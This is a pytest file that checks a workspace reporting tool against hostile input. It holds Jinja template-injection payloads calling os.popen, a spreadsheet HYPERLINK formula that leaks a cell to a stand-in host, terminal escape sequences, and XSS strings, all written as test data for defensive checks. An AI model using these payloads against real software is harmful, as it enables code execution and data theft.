"""A workspace from someone else cannot run code, plant a formula, drive the terminal or
overwrite what the user wrote (SPEC §2.5, §2.6)."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from scrutiny.printable import csv_cell, printable

Run = Callable[..., tuple[int, str, str]]

REPO = Path(__file__).resolve().parents[1]
YAML_ESCAPES = r"\e]0;owned\a\e[31mred\e[0m \e]8;;http://example.invalid\e\\link\e]8;;\e\\"
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
ESCAPES = (
    "\x1b]0;owned\x07\x1b[31mred\x1b[0m \x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x1b\\"
)


def _rec(title: str, rec_id: str = "REC-01", body: str = "The partners should act.") -> str:
    return f"""\
---
kind: recommendation
id: {rec_id}
date: 2025-01-12
title: '{title.replace("'", "''")}'
areas: [core-partners]
owner: Board
due: 2025-06-30
---
{body}
"""


def _activity(body: str = "Attended the board.") -> str:
    return f"""\
---
kind: activity
date: 2025-01-10
title: Attended the partnership board
areas: [core-partners]
source: meeting
---
{body}
"""


@pytest.fixture
def hostile(make_workspace: Callable[..., Path]) -> Path:
    return make_workspace(
        {
            "evidence/2024-25/activity.md": _activity(),
            "evidence/2024-25/formula.md": _rec(FORMULA, "REC-01"),
            "evidence/2024-25/plus.md": _rec("+SUM(1,2)", "REC-02"),
            "evidence/2024-25/minus.md": _rec("-2+3 people", "REC-03"),
            "evidence/2024-25/at.md": _rec("@cmd", "REC-04"),
            # YAML's double quotes spell ESC and BEL as \e and \a: how a title carries them.
            "evidence/2024-25/escape.md": _rec("Audit", "REC-05", body=f"Body {ESCAPES}.").replace(
                "title: 'Audit'", f'title: "Audit {YAML_ESCAPES} end"'
            ),
            "evidence/2024-25/markup.md": _rec(
                "Audit of the [/] process [@click=app.quit]x", "REC-06"
            ),
        }
    )


# -- templates ------------------------------------------------------------------------------


def _hostile_template(root: Path, payload: str, line: int) -> None:
    package = (REPO / "scrutiny" / "report" / "templates" / "wording.j2").read_text("utf-8")
    lines = package.splitlines()
    padding = ["{# a comment line #}"] * (line - 1)
    (root / "templates").mkdir()
    (root / "templates" / "wording.j2").write_text(
        "\n".join([*padding, payload, *lines]) + "\n", encoding="utf-8"
    )


@pytest.mark.parametrize(
    "payload",
    [
        "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ joiner.__init__.__globals__ }}",
    ],
)
def test_a_workspace_template_cannot_reach_python(
    hostile: Path, run: Run, payload: str, tmp_path: Path
) -> None:
    _hostile_template(hostile, payload, line=3)
    out = tmp_path / "report.md"
    code, stdout, stderr = run(
        hostile, "report", "-p", "2024-25", "-o", str(out), "--allow-flagged"
    )
    assert code == 1
    assert "templates/wording.j2:3: error:" in stderr
    assert "Traceback" not in stderr + stdout
    assert not out.exists(), "nothing is written"
    assert not (hostile / "PWNED").exists() and not Path("PWNED").exists()


def test_a_template_reaching_python_from_a_macro_is_refused(hostile: Path, run: Run) -> None:
    # Inside a macro, the payload runs only when the report calls it.
    package = (REPO / "scrutiny" / "report" / "templates" / "wording.j2").read_text("utf-8")
    evil = package
    marker = "{% macro activity_sentence("
    assert marker in evil
    start = evil.index(marker)
    end = evil.index("%}", start) + 2
    evil = evil[:end] + "{{ lipsum.__globals__['os'].popen('id').read() }}" + evil[end:]
    (hostile / "templates").mkdir()
    (hostile / "templates" / "wording.j2").write_text(evil, encoding="utf-8")
    line = evil[:end].count("\n") + 1
    code, stdout, stderr = run(hostile, "report", "-p", "2024-25", "--allow-flagged")
    assert code == 1
    assert f"templates/wording.j2:{line}: error:" in stderr
    assert "uid=" not in stdout and stdout == ""


def test_a_broken_template_is_a_line_not_a_traceback(hostile: Path, run: Run) -> None:
    (hostile / "templates").mkdir()
    (hostile / "templates" / "wording.j2").write_text("ok\n{% if %}\n", encoding="utf-8")
    code, stdout, stderr = run(hostile, "report", "-p", "2024-25", "--allow-flagged")
    assert code == 1
    assert "templates/wording.j2:2: error:" in stderr
    assert stdout == ""


def test_a_hostile_html_page_template_is_refused(hostile: Path, run: Run, tmp_path: Path) -> None:
    (hostile / "templates").mkdir()
    (hostile / "templates" / "report.html.j2").write_text(
        "<html>\n{{ self.__init__.__globals__ }}\n{{ body }}</html>\n", encoding="utf-8"
    )
    out = tmp_path / "r.html"
    code, _, stderr = run(
        hostile, "report", "-p", "2024-25", "-f", "html", "-o", str(out), "--allow-flagged"
    )
    assert code == 1
    assert "templates/report.html.j2:2: error:" in stderr
    assert not out.exists()


def test_a_harmless_override_still_works(hostile: Path, run: Run) -> None:
    package = (REPO / "scrutiny" / "report" / "templates" / "wording.j2").read_text("utf-8")
    (hostile / "templates").mkdir()
    (hostile / "templates" / "wording.j2").write_text(package, encoding="utf-8")
    code, stdout, _ = run(hostile, "report", "-p", "2024-25", "--allow-flagged")
    assert (code == 0 and "## 6" in stdout) or "6." in stdout


# -- spreadsheets ---------------------------------------------------------------------------


def test_xlsx_cells_are_text_never_formulas(hostile: Path, run: Run, tmp_path: Path) -> None:
    out = tmp_path / "recs.xlsx"
    code, _, stderr = run(hostile, "export", "recs", "-o", str(out), "--as-of", "2025-03-01")
    assert code == 0, stderr
    sheet = load_workbook(out)["Recommendations"]
    titles = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    cell = titles["REC-01"]
    assert cell.data_type == "s" and cell.value == FORMULA
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    # The raw XML holds no <f> element anywhere.
    import zipfile

    with zipfile.ZipFile(out) as book:
        xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml


def test_csv_cells_cannot_start_a_formula(hostile: Path, run: Run, tmp_path: Path) -> None:
    out = tmp_path / "recs.csv"
    code, _, _ = run(hostile, "export", "recs", "-o", str(out), "--as-of", "2025-03-01")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    titles = {r["ID"]: r["Title"] for r in rows}
    assert titles["REC-01"] == "'" + FORMULA
    assert titles["REC-02"] == "'+SUM(1,2)"
    assert titles["REC-03"] == "'-2+3 people"
    assert titles["REC-04"] == "'@cmd"
    # The listing's CSV (what a scrutineer pipes into a file for Excel) likewise.
    code, stdout, _ = run(hostile, "recs", "--format", "csv", "--as-of", "2025-03-01")
    listed = {r["id"]: r["title"] for r in csv.DictReader(io.StringIO(stdout))}
    assert listed["REC-01"] == "'" + FORMULA and listed["REC-04"] == "'@cmd"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44", "'+44"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
    ],
)
def test_csv_cell_rule(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


# -- the terminal ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("recs", "--as-of", "2025-03-01"),
        ("recs", "--as-of", "2025-03-01", "--format", "csv"),
        ("trace", "REC-05", "--as-of", "2025-03-01"),
        ("notes", "--all"),
        ("notes", "--all", "--search", "Audit"),
        ("report", "-p", "2024-25", "--allow-flagged"),
    ],
)
def test_escape_sequences_never_reach_the_terminal(
    hostile: Path, run: Run, args: tuple[str, ...]
) -> None:
    code, stdout, stderr = run(hostile, *args)
    assert code == (1 if args[0] == "trace" else 0), stderr
    assert "\x1b" not in stdout + stderr and "\x07" not in stdout + stderr


def test_a_title_or_body_holding_control_characters_is_an_error_at_its_place(
    hostile: Path, run: Run
) -> None:
    code, stdout, _ = run(hostile, "check")
    assert code == 1
    assert (
        "evidence/2024-25/escape.md:5:8: error: title holds an invisible control character (U+001B)"
        in stdout
    )
    assert "\x1b" not in stdout
    body = hostile / "evidence" / "2024-25" / "bell.md"
    body.write_text(_activity("Line one.\nA bell \x07 here."), encoding="utf-8")
    code, stdout, _ = run(hostile, "check")
    assert (
        "evidence/2024-25/bell.md:9:8: error: the text holds a control character (U+0007)" in stdout
    )


@pytest.mark.parametrize(
    ("title", "why"),
    [
        ("\u200b\u200b", "no visible characters"),
        ("Audit \u202eevil\u202c end", "U+202E"),
        ("\ufeffTitle with a BOM", "U+FEFF"),
    ],
)
def test_invisible_or_reordering_titles_are_errors(
    make_workspace: Callable[..., Path], run: Run, title: str, why: str
) -> None:
    root = make_workspace(
        {
            "evidence/2024-25/a.md": _activity().replace(
                "title: Attended the partnership board", f'title: "{title}"'
            )
        }
    )
    code, stdout, _ = run(root, "check")
    assert code == 1 and why in stdout and "a.md:4:" in stdout


def test_markup_in_a_title_prints_as_written(hostile: Path, run: Run) -> None:
    code, stdout, _ = run(
        hostile, "trace", "REC-06", "--as-of", "2025-03-01", env={"COLUMNS": "200"}
    )
    assert code == 0
    assert "Audit of the [/] process [@click=app.quit]x" in stdout


def test_a_file_name_with_an_escape_is_shown_inert(
    make_workspace: Callable[..., Path], run: Run
) -> None:
    root = make_workspace({"evidence/bad\x1b[2Jname.md": "---\nkind: nonsense\n---\n"})
    code, stdout, _ = run(root, "check")
    assert code == 1
    assert "\x1b" not in stdout and "bad␛[2Jname.md" in stdout


def test_printable_keeps_newlines_and_tabs_and_shows_controls() -> None:
    assert printable("a\tb\nc") == "a\tb\nc"
    assert printable("\x1b[31m") == "␛[31m"
    assert printable("\x9b2J") == "\ufffd2J"
    assert printable("abc\u202edef") == "abc\ufffddef"


def test_raw_html_and_javascript_links_never_reach_the_html_report(
    make_workspace: Callable[..., Path], run: Run, tmp_path: Path
) -> None:
    body = (
        'Met leads. <script>alert("x")</script> <img src=x onerror=alert(1)> '
        '[click](javascript:alert(1)) <a href="javascript:alert(2)">here</a>'
    )
    root = make_workspace({"evidence/2024-25/a.md": _activity(body)})
    out = tmp_path / "r.html"
    code, _, stderr = run(root, "report", "-p", "2024-25", "-f", "html", "-o", str(out))
    assert code == 0, stderr
    page = out.read_text("utf-8")
    assert "<script>alert" not in page and "<img" not in page
    assert 'href="javascript:' not in page.lower() and "href='javascript:" not in page.lower()
    assert "&lt;script&gt;" in page


# -- outputs never land on what the user wrote ------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "evidence/2024-25/activity.md",
        "evidence/new-report.md",
        "scrutiny.toml",
        "frameworks/x.md",
        "templates/wording.j2",
        ".scrutiny/index.db",
    ],
)
def test_report_refuses_to_write_over_the_workspace(hostile: Path, run: Run, target: str) -> None:
    path = hostile / target
    before = path.read_bytes() if path.exists() else None
    code, _, stderr = run(hostile, "report", "-p", "2024-25", "-o", str(path), "--allow-flagged")
    assert code == 1
    refusals = [line for line in stderr.splitlines() if "nothing was written" in line]
    assert len(refusals) == 1 and target.split("/")[0] in refusals[0]
    if target.startswith(".scrutiny"):
        assert path.read_bytes().startswith(b"SQLite format 3"), "the index is left alone"
    else:
        assert (path.read_bytes() if path.exists() else None) == before


def test_export_refuses_a_note_and_writes_no_timeline_into_evidence(
    hostile: Path, run: Run
) -> None:
    note = hostile / "evidence" / "2024-25" / "activity.md"
    before = note.read_bytes()
    code, _, stderr = run(hostile, "export", "recs", "-f", "csv", "-o", str(note))
    assert code == 1 and "nothing was written" in stderr
    assert note.read_bytes() == before
    assert not list((hostile / "evidence").rglob("*-timeline*"))


def test_a_relative_path_into_evidence_is_refused_too(
    hostile: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(hostile / "evidence" / "2024-25")
    code, _, stderr = run(hostile, "report", "-p", "2024-25", "-o", "../../scrutiny.toml")
    assert code == 1 and "settings file" in stderr


def test_outputs_refuse_symlinks_fifos_devices_and_folders(
    hostile: Path, run: Run, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(victim)
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    folder = tmp_path / "folder.md"
    folder.mkdir()
    for target in (link, fifo, folder, Path("/dev/null")):
        code, _, stderr = run(
            hostile, "report", "-p", "2024-25", "-o", str(target), "--allow-flagged"
        )
        assert code == 1, target
        assert "nothing was written" in stderr
        code, _, stderr = run(hostile, "export", "recs", "-o", str(target), "-f", "xlsx")
        assert code == 1, target
    assert link.is_symlink() and victim.read_text("utf-8") == "keep me"
    assert fifo.is_fifo() and folder.is_dir()


def test_an_ordinary_new_file_outside_is_still_written(
    hostile: Path, run: Run, tmp_path: Path
) -> None:
    out = tmp_path / "out" / "report.md"
    code, _, stderr = run(hostile, "report", "-p", "2024-25", "-o", str(out), "--allow-flagged")
    assert code == 0, stderr
    assert out.read_text("utf-8").strip()
    # and over an existing regular file of the user's choosing (their own earlier output)
    code, _, _ = run(hostile, "report", "-p", "2024-25", "-o", str(out), "--allow-flagged")
    assert code == 0


# -- confidentiality fails closed -------------------------------------------------------------

SECRET = "The child's new school and foster placement are named here"


@pytest.mark.parametrize(
    "key",
    ["Confidentiality", "CONFIDENTIALITY", "confidentialty", "confidental", "Confidentiality "],
)
def test_a_misspelt_confidentiality_keeps_the_note_out_of_everything(
    make_workspace: Callable[..., Path], run: Run, tmp_path: Path, key: str
) -> None:
    note = (
        f"---\nkind: finding\ndate: 2025-01-11\ntitle: {SECRET}\nareas: [core-partners]\n"
        f"'{key}': restricted\n---\n{SECRET}.\n"
    )
    root = make_workspace(
        {"evidence/2024-25/activity.md": _activity(), "evidence/2024-25/f.md": note}
    )
    code, stdout, _ = run(root, "check")
    assert code == 1
    assert (
        f"evidence/2024-25/f.md:6:1: error: misspelt field {key!r}: did you mean 'confidentiality'?"
        in stdout
    )
    code, stdout, stderr = run(root, "report", "-p", "2024-25")
    assert code == 1 and stdout == "" and "misspelt field" in stderr
    assert SECRET not in stdout + stderr
    # Even written anyway, the note is not in it.
    out = tmp_path / "r.md"
    code, _, _ = run(root, "report", "-p", "2024-25", "-o", str(out), "--allow-flagged")
    assert code == 0 and SECRET not in out.read_text("utf-8")
    for args in (("notes", "--all", "--format", "json"), ("coverage", "--period", "2024-25")):
        assert SECRET not in run(root, *args)[1]
    code, _, stderr = run(root, "check", "--publication", "-p", "2024-25")
    assert code == 1 and "misspelt field" in stderr + _


def test_unknown_fields_far_from_any_known_one_stay_allowed(
    make_workspace: Callable[..., Path], run: Run
) -> None:
    note = _activity().replace(
        "source: meeting", "source: meeting\nlocation: Town hall\nreference: X1"
    )
    root = make_workspace({"evidence/2024-25/a.md": note})
    assert run(root, "check")[0] == 0
    code, stdout, _ = run(root, "check", "--strict")
    assert code == 1 and "location" in stdout
